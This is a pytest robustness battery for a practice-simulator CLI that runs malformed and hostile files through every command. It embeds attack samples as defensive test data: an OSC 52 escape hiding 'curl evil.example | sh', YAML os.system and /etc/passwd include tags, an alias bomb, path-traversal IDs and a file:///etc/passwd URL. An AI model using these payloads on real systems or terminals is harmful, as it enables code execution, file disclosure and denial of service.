"""The hostile battery: broken and hostile files, run through every command that reads them, headless.

Each case builds one hostile input (a scenario, a rubric, a transcript, an annotations file, an AnnoMI
export, a config file) beside healthy ones, runs a command on it in this process under a time limit,
and checks what every case must hold: no traceback, no hang, a clear exit status, no control or escape
byte from content in what is written to the terminal, and no file the user already had changed.
Tampered transcripts must also be reported as such. Cases are generated: hostile inputs x commands.
"""

import json
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from faults import Outcome, run_cli
from helpers import ROOT, script

GOOD_SCENARIO = (ROOT / "scenarios" / "p6-knee-pain.yaml").read_text(encoding="utf-8")
GOOD_RUBRIC = (ROOT / "rubrics" / "what-matters.yaml").read_text(encoding="utf-8")
# Bytes that must never reach a terminal from content: ESC, BEL, NUL, DEL, C1 controls (as text).
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
ESCAPES = {
    "osc52": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc0": "\x1b]0;pwned\x07",
    "clear": "\x1b[2J\x1b[H",
    "c1-csi": "\x9b31m",
    "bell": "\x07\x07",
    "bidi": "\u202eevil\u202c",
    "nul": "a\x00b",
}


def assert_clean(outcome: Outcome, allowed: set[int]) -> None:
    """What every case must hold, whatever the input."""
    both = outcome.out + outcome.err
    assert "Traceback" not in both, both
    assert outcome.status in allowed, (outcome.status, both[-2000:])
    leaked = CONTROL.findall(both.replace("\n", "").replace("\t", "").replace("\r", ""))
    assert not leaked, f"control characters reached the terminal: {leaked!r}"


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and not p.name.endswith(".sqlite3")}


# --- scenario files -------------------------------------------------------------------------------

def _replace(old: str, new: str) -> Callable[[], str | bytes]:
    return lambda: GOOD_SCENARIO.replace(old, new, 1)


SCENARIOS: dict[str, Callable[[], str | bytes]] = {
    "empty": lambda: "",
    "not-a-mapping": lambda: "- just\n- a list\n",
    "binary": lambda: bytes(range(256)) * 4,
    "utf16": lambda: GOOD_SCENARIO.encode("utf-16"),
    "bom": lambda: "\ufeff" + GOOD_SCENARIO,
    "tag-include": _replace("title:", "extra: !include /etc/passwd\ntitle:"),
    "tag-python": _replace("title:", "extra: !!python/object/apply:os.system ['echo hacked']\ntitle:"),
    "impossible-date": _replace("title:", "when: 2023-02-30\ntitle:"),
    "alias-bomb": lambda: "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                          "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
                          "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n",
    "deep-nesting": lambda: "a: " + "[" * 5000 + "]" * 5000 + "\n",
    "huge": lambda: GOOD_SCENARIO + "# " + "x" * 8_000_000 + "\n",
    "duplicate-keys": _replace("title:", "title: first\ntitle:"),
    "tab-indent": lambda: GOOD_SCENARIO.replace("  name:", "\tname:", 1),
    "cut-short": lambda: GOOD_SCENARIO[: len(GOOD_SCENARIO) // 2],
    "nan-activation": _replace("activation: 2", "activation: .nan"),
    "inf-age": _replace("age: 63", "age: .inf"),
    "negative-age": _replace("age: 63", "age: -5"),
    "circular-after": lambda: GOOD_SCENARIO,  # filled in below, when the ids are known
    **{f"escape-{name}-title": _replace('title: "Denise Walker', f'title: "{seq} Denise Walker')
       for name, seq in ESCAPES.items() if name != "nul"},
    **{f"escape-{name}-line": _replace("name: Denise Walker", f"name: Denise {seq}Walker")
       for name, seq in ESCAPES.items() if name != "nul"},
}


def _write_scenario(folder: Path, name: str) -> Path:
    path = folder / f"{name}.yaml"
    content = SCENARIOS[name]()
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def _scenario_commands(path: Path, lines: Path) -> dict[str, tuple[list[str], set[int]]]:
    return {
        "validate": (["validate", str(path)], {0, 1, 2}),
        "list": (["list"], {0, 1}),
        "play": (["play", str(path), "--script", str(lines), "--coder", "rules"], {0, 2}),
        "playtest": (["playtest", str(path), "--coder", "rules"], {0, 1, 2}),
    }


SPECIAL_SCENARIOS = ["fifo", "directory", "dangling-link"]
# Odd but valid: a BOM is read past; a folder named x.yaml is a folder to look in (here, an empty one).
BENIGN = {"bom", "directory"}


@pytest.mark.parametrize("command", ["validate", "list", "play", "playtest"])
@pytest.mark.parametrize("name", [*SCENARIOS, *SPECIAL_SCENARIOS])
def test_hostile_scenario_files(name: str, command: str, tmp_path: Path, capfd: pytest.CaptureFixture[str],
                                monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    shutil.copy(ROOT / "scenarios" / "p2-widow-copd.yaml", folder / "healthy.yaml")
    if name == "fifo":
        path = folder / "fifo.yaml"
        os.mkfifo(path)
    elif name == "directory":
        path = folder / "directory.yaml"
        path.mkdir()
    elif name == "dangling-link":
        path = folder / "dangling.yaml"
        path.symlink_to(tmp_path / "nowhere.yaml")
    elif name == "circular-after":
        # Each of two hidden facts may only come out after the other: neither ever can.
        path = folder / "circular.yaml"
        text = GOOD_SCENARIO.replace(
            "    release:\n      - needs: {asks_what_matters: 1, open_question: 2}\n        trust: 0.5\n"
            "      - needs: {complex_reflection: 1}\n        cued: true\n        trust: 0.4\n",
            "    release:\n      - needs: {asks_what_matters: 1}\n        after: [extra-codeine]\n", 1)
        text = text.replace(
            "      - needs: {complex_reflection: 2, emphasising_autonomy: 1}\n        trust: 0.65\n", "", 1)
        releases = {fact["id"]: [name for release in fact["release"] for name in release.get("after", [])]
                    for fact in yaml.safe_load(text)["hidden_facts"]}
        assert releases == {"play-with-ava": ["extra-codeine"], "extra-codeine": ["play-with-ava"]}, \
            "the scenario changed: rebuild the circle"
        path.write_text(text, encoding="utf-8")
    else:
        path = _write_scenario(folder, name)
    monkeypatch.setenv("SIMULATOR_SCENARIOS", str(folder))
    lines = tmp_path / "lines.txt"
    lines.write_text("\n".join(script("person-centred.txt")[:3]) + "\n", encoding="utf-8")
    argv, allowed = _scenario_commands(path, lines)[command]
    before = snapshot(folder)
    outcome = run_cli(argv, capfd)
    assert_clean(outcome, allowed)
    assert snapshot(folder) == before
    if command == "list":
        assert "p2-widow-copd" in outcome.out  # the healthy scenario beside it still shows
    if command == "validate" and name not in BENIGN:
        assert outcome.status != 0 and str(path.name) in outcome.out + outcome.err


# --- rubric files ---------------------------------------------------------------------------------

RUBRICS: dict[str, Callable[[], str]] = {
    "empty": lambda: "",
    "tag": lambda: GOOD_RUBRIC.replace("version:", "x: !!python/name:os.system\nversion:", 1),
    "inf-weight": lambda: re.sub(r"weight: [\d.]+", "weight: .inf", GOOD_RUBRIC, count=1),
    "nan-threshold": lambda: GOOD_RUBRIC.replace("relational: {fair: 3.5", "relational: {fair: .nan", 1),
    "escape-name": lambda: GOOD_RUBRIC.replace("name: Orient", f"name: {ESCAPES['osc52']}Orient", 1),
    "cut-short": lambda: GOOD_RUBRIC[: len(GOOD_RUBRIC) // 3],
    "not-a-mapping": lambda: "[1, 2, 3]\n",
}


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One healthy, finished practice transcript, played once for the module."""
    from simulator.content.scenario_loader import resolve
    from simulator.practice.session import Session

    folder = tmp_path_factory.mktemp("played")
    session = Session.start(resolve("p2-widow-copd"), seed=3, directory=folder)
    for line in script("person-centred.txt")[:6]:
        session.say(line)
    session.end()
    return session.path


@pytest.mark.parametrize("command", ["validate", "score"])
@pytest.mark.parametrize("name", list(RUBRICS))
def test_hostile_rubric_files(name: str, command: str, played: Path, tmp_path: Path,
                              capfd: pytest.CaptureFixture[str]) -> None:
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text(RUBRICS[name](), encoding="utf-8")
    argv = ["validate", str(rubric)] if command == "validate" else ["score", str(played), "--rubric", str(rubric),
                                                                     "--json"]
    outcome = run_cli(argv, capfd)
    assert_clean(outcome, {1, 2})
    assert "rubric.yaml" in outcome.out + outcome.err
    assert "NaN" not in outcome.out and "nan" not in outcome.out.lower().split("overall")[-1][:10]


# --- transcripts ----------------------------------------------------------------------------------

def _lines(path: Path) -> list[bytes]:
    return path.read_bytes().splitlines(keepends=True)


def _edit_event(index: int, change: Callable[[dict[str, object]], None]) -> Callable[[Path], bytes]:
    def edit(path: Path) -> bytes:
        lines = _lines(path)
        event = json.loads(lines[index])
        change(event)
        lines[index] = json.dumps(event).encode() + b"\n"
        return b"".join(lines)
    return edit


def _set(key: str, value: object) -> Callable[[dict[str, object]], None]:
    return lambda event: event.__setitem__(key, value)


def _strip_chain(event: dict[str, object]) -> None:
    event.pop("chain", None)
    event["text"] = "I changed my mind."


# Each: (how to make it from the healthy transcript, whether it is tampering the product must report).
TRANSCRIPTS: dict[str, tuple[Callable[[Path], bytes], bool]] = {
    "deep-nesting": (lambda p: b"".join(_lines(p)[:3]) + b"[" * 100_000 + b"]" * 100_000 + b"\n"
                     + b"".join(_lines(p)[3:]), True),
    "huge-number": (lambda p: b"".join(_lines(p)[:3]) + b'{"seq": ' + b"9" * 5000 + b"}\n"
                    + b"".join(_lines(p)[3:]), True),
    "naive-time": (_edit_event(2, _set("at", "2026-11-23T09:30:00")), True),
    "bom": (lambda p: b"\xef\xbb\xbf" + p.read_bytes(), False),
    "garbage-line": (lambda p: b"".join(_lines(p)[:4]) + b"not json at all\n" + b"".join(_lines(p)[4:]), True),
    "binary": (lambda p: bytes(range(256)) * 8, False),
    "empty": (lambda p: b"", False),
    "cut-mid-line": (lambda p: p.read_bytes()[: len(p.read_bytes()) - 40], True),
    "last-lines-deleted": (lambda p: b"".join(_lines(p)[:-3]), True),
    "edited-text": (_edit_event(3, _set("text", "I shouted at the patient.")), True),
    "chain-stripped": (_edit_event(3, _strip_chain), True),
    "line-deleted": (lambda p: b"".join(_lines(p)[:3] + _lines(p)[4:]), True),
    "lines-swapped": (lambda p: b"".join(_lines(p)[:3] + [_lines(p)[4], _lines(p)[3]] + _lines(p)[5:]), True),
    "unknown-type": (_edit_event(3, _set("type", "telepathy")), True),
    "escape-trainee": (_edit_event(0, _set("trainee", ESCAPES["osc52"] + "Sam")), True),
    "escape-title": (_edit_event(0, _set("scenario_title", ESCAPES["clear"] + "Margaret")), True),
    "escape-text": (_edit_event(3, _set("text", ESCAPES["osc0"] + "hello")), True),
    "not-an-object": (lambda p: b"[1, 2, 3]\n" + b"".join(_lines(p)[1:]), True),
    "utf16": (lambda p: p.read_text(encoding="utf-8").encode("utf-16"), False),
    "future-version": (_edit_event(0, _set("format_version", 99)), False),
}

TRANSCRIPT_COMMANDS: dict[str, Callable[[Path, Path], tuple[list[list[str]], set[int]]]] = {
    "score": lambda p, t: ([["score", str(p), "--json"]], {0, 1, 2}),
    "export-html": lambda p, t: ([["export", "html", str(p), "--out", str(t / "report.html")]], {0, 1, 2}),
    "calibrate": lambda p, t: ([["calibrate", str(p), "--coder", "rules"]], {0, 1, 2}),
    "code": lambda p, t: ([["code", str(p), "--coder", "rules", "--jsonl"]], {0, 1, 2}),
    "library": lambda p, t: ([["library", "add", str(p.parent)], ["library", "list", "--json"]], {0, 1, 2}),
    "resume-list": lambda p, t: ([["resume", "--list"]], {0, 1}),
}


@pytest.mark.parametrize("command", list(TRANSCRIPT_COMMANDS))
@pytest.mark.parametrize("name", list(TRANSCRIPTS))
def test_hostile_transcripts(name: str, command: str, played: Path, tmp_path: Path, isolated: Path,
                             capfd: pytest.CaptureFixture[str]) -> None:
    make, tampered = TRANSCRIPTS[name]
    folder = isolated / "sessions"  # where `resume --list` looks
    folder.mkdir(parents=True)
    shutil.copy(played, folder / "healthy.jsonl")
    hostile = folder / f"20261123-093000-{name}.jsonl"
    hostile.write_bytes(make(played))
    before = snapshot(folder)
    argvs, allowed = TRANSCRIPT_COMMANDS[command](hostile, tmp_path)
    outcomes = [run_cli(argv, capfd) for argv in argvs]
    for outcome in outcomes:
        assert_clean(outcome, allowed)
    assert snapshot(folder) == before, "a command changed a transcript"
    if command == "library":
        rows = [json.loads(line) for line in outcomes[-1].out.splitlines()]
        assert any(r["path"].endswith("healthy.jsonl") for r in rows), "the healthy transcript must still load"
        if tampered:
            mine = [r for r in rows if r["path"].endswith(hostile.name)]
            assert not mine or mine[0]["integrity"] != "intact", f"{name} was not reported: {mine}"
    if command == "export-html" and tampered and outcomes[0].status == 0:
        report = (tmp_path / "report.html").read_text(encoding="utf-8")
        assert "Intact:" not in report, f"{name} reported as intact in the HTML report"


# --- annotations ----------------------------------------------------------------------------------

ANNOTATIONS: dict[str, Callable[[bytes], bytes]] = {
    "cut-short": lambda good: good[:-20],
    "deep-nesting": lambda good: good + b"[" * 100_000 + b"]" * 100_000 + b"\n",
    "garbage": lambda good: good + b"\xff\xfe not json\n",
    "escape-reviewer": lambda good: good.replace(b'"Sam"', json.dumps(ESCAPES["osc52"] + "Sam").encode()),
    "escape-comment": lambda good: good.replace(b'"comment": ""', b'"comment": ' + json.dumps(ESCAPES["clear"]).encode()),
    "naive-time": lambda good: re.sub(rb'"at": "([^"]+?)(Z|\+00:00)"', rb'"at": "\1"', good),
}


@pytest.mark.parametrize("command", ["library", "agreement", "export-annotations"])
@pytest.mark.parametrize("name", list(ANNOTATIONS))
def test_hostile_annotations(name: str, command: str, played: Path, tmp_path: Path,
                             capfd: pytest.CaptureFixture[str]) -> None:
    from simulator.coding.codes import Code
    from simulator.content.rubric_loader import load_rubric
    from simulator.quality.reviewing import open_review
    from simulator.storage.transcript import annotation_path

    folder = tmp_path / "library"
    folder.mkdir()
    copy = folder / played.name
    shutil.copy(played, copy)
    under = open_review(copy, load_rubric())
    under.judge_codes("Sam", 1, [Code.OPEN_QUESTION])
    under.set_flag("Sam", True, "")
    notes = annotation_path(copy)
    notes.write_bytes(ANNOTATIONS[name](notes.read_bytes()))
    before = snapshot(folder)
    argvs = {"library": [["library", "add", str(folder)], ["library", "list", "--json"]],
             "agreement": [["library", "add", str(folder)], ["agreement"]],
             "export-annotations": [["library", "add", str(folder)],
                                    ["export", "annotations", "--out", str(tmp_path / "a.csv")]]}[command]
    for argv in argvs:
        assert_clean(run_cli(argv, capfd), {0, 1, 2})
    assert snapshot(folder) == before


# --- AnnoMI exports -------------------------------------------------------------------------------

SAMPLE = (ROOT / "tests" / "data" / "mi-sample.csv").read_bytes()
IMPORTS: dict[str, Callable[[], bytes]] = {
    "path-traversal": lambda: SAMPLE.replace(b"\n7,", b"\n../../escaped,"),
    "absolute-id": lambda: SAMPLE.replace(b"\n7,", b"\n/tmp/absolute,"),
    "binary": lambda: bytes(range(256)) * 16,
    "utf16": lambda: SAMPLE.decode("utf-8").encode("utf-16"),
    "non-numeric-utterance": lambda: SAMPLE.replace(b",0,therapist", b",zero,therapist", 1),
    "missing-columns": lambda: b"a,b,c\n1,2,3\n",
    "escape-text": lambda: SAMPLE.replace(b"What brings you in today?", ESCAPES["osc52"].encode()),
    "empty": lambda: b"",
}


@pytest.mark.parametrize("name", list(IMPORTS))
def test_hostile_annomi_imports(name: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(IMPORTS[name]())
    out = tmp_path / "deep" / "out"
    outcome = run_cli(["import", "annomi", str(source), "--out", str(out), "--coder", "none"], capfd)
    assert_clean(outcome, {0, 2})
    written = [p for p in tmp_path.rglob("*.jsonl")]
    assert all(out in p.parents for p in written), f"written outside --out: {written}"
    for path in written:  # what was imported reads back, and shows safely
        assert_clean(run_cli(["score", str(path), "--json"], capfd), {0, 1, 2})


# --- config files ---------------------------------------------------------------------------------

CONFIGS: dict[str, str] = {
    "not-toml": "[patient\nbackend = ",
    "wrong-types": "[patient]\nbackend = 5\n",
    "unknown-backend": "[patient]\nbackend = \"telepathy\"\n",
    "file-url": "[patient]\nbackend = \"remote\"\nurl = \"file:///etc/passwd\"\n",
    "escape-name": f"[user]\nname = \"{ESCAPES['osc52']}Sam\"\n".replace("\x1b", "\\u001b").replace("\x07", "\\u0007"),
    "binary": "\x00\x01\x02",
}


@pytest.mark.parametrize("command", ["play", "models-list"])
@pytest.mark.parametrize("name", list(CONFIGS))
def test_hostile_config_files(name: str, command: str, tmp_path: Path, capfd: pytest.CaptureFixture[str],
                              monkeypatch: pytest.MonkeyPatch) -> None:
    config = tmp_path / "config.toml"
    config.write_text(CONFIGS[name], encoding="utf-8")
    monkeypatch.setenv("SIMULATOR_CONFIG", str(config))
    monkeypatch.setenv("SIMULATOR_MODEL_DIR", str(tmp_path / "models"))
    lines = tmp_path / "lines.txt"
    lines.write_text("What matters most to you?\n", encoding="utf-8")
    argv = (["play", "p2-widow-copd", "--script", str(lines), "--coder", "rules", "--out", str(tmp_path / "out")]
            if command == "play" else ["models", "list"])
    assert_clean(run_cli(argv, capfd), {0, 1, 2})


def test_the_battery_is_big_enough() -> None:
    cases = (len(SCENARIOS) + len(SPECIAL_SCENARIOS)) * 4 + len(RUBRICS) * 2 + len(TRANSCRIPTS) * len(
        TRANSCRIPT_COMMANDS) + len(ANNOTATIONS) * 3 + len(IMPORTS) + len(CONFIGS) * 2
    assert cases >= 150, cases
